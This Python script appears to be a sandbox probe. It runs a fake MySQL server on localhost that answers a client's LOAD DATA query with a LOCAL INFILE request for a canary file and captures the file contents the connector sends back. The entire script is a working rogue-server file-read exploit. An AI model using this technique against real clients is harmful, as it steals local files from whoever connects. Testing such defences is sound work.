# READ: same fake-server LOCAL INFILE trick against the pure-Python connector (library open() -> expected PermissionError)
import sys
import mysql.connector
socket = sys.modules['socket']; threading = sys.modules['threading']
got = []
def pk(f, v): return v.to_bytes({'<I':4,'<H':2}[f], 'little')
def pkt(seq, payload): return len(payload).to_bytes(3, 'little') + bytes([seq]) + payload
def recv_pkt(c):
    h = b''
    while len(h) < 4:
        d = c.recv(4 - len(h))
        if not d: return None, None
        h += d
    n = h[0] | h[1] << 8 | h[2] << 16
    b = b''
    while len(b) < n: b += c.recv(n - len(b))
    return h[3], b
OK = b'\x00\x00\x00\x02\x00\x00\x00'
def server(ls):
    c, _ = ls.accept()
    caps = 1|2|4|8|0x80|0x200|0x2000|0x8000|0x10000|0x20000|0x80000|0x200000
    hs = (b'\x0a' + b'8.0.36\x00' + pk('<I', 7) + b'abcdefgh' + b'\x00' + pk('<H', caps & 0xffff)
          + b'\xff' + pk('<H', 2) + pk('<H', caps >> 16) + bytes([21]) + b'\x00'*10 + b'ijklmnopqrst\x00'
          + b'caching_sha2_password\x00')
    c.sendall(pkt(0, hs))
    seq, b = recv_pkt(c)
    c.sendall(pkt(seq + 1, OK))
    while True:
        seq, b = recv_pkt(c)
        if b is None: break
        if b[:1] == b'\x03' and b'LOAD DATA' in b.upper():
            c.sendall(pkt(1, b'\xfb/canary/secret.txt'))
            s = 2
            while True:
                seq, d = recv_pkt(c)
                if not d: break
                got.append(d)
            c.sendall(pkt(seq + 1, OK))
        elif b[:1] == b'\x01':
            break
        else:
            c.sendall(pkt(seq + 1, OK))
    c.close()
ls = socket.socket(); ls.bind(('127.0.0.1', 0)); ls.listen(1)
port = ls.getsockname()[1]
t = threading.Thread(target=server, args=(ls,), daemon=True); t.start()
try:
    cn = mysql.connector.connect(host='127.0.0.1', port=port, user='x', password='', use_pure=True,
                                 allow_local_infile=True, ssl_disabled=True, connection_timeout=5)
    print('connected', type(cn))
    cur = cn.cursor()
    cur.execute("LOAD DATA LOCAL INFILE '/canary/secret.txt' INTO TABLE t")
except Exception as e:
    print('client', repr(e))
t.join(3)
print('server got:', b''.join(got).decode(errors='replace'))
